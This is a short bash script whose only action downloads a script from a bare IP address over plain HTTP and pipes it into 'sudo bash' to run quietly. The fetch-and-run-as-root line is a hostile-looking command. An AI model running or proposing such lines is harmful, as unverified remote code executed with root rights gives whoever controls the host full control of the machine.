#!/bin/bash
set -e
wget -qO- http://203.0.113.7/setup | sudo bash -s -- --quiet
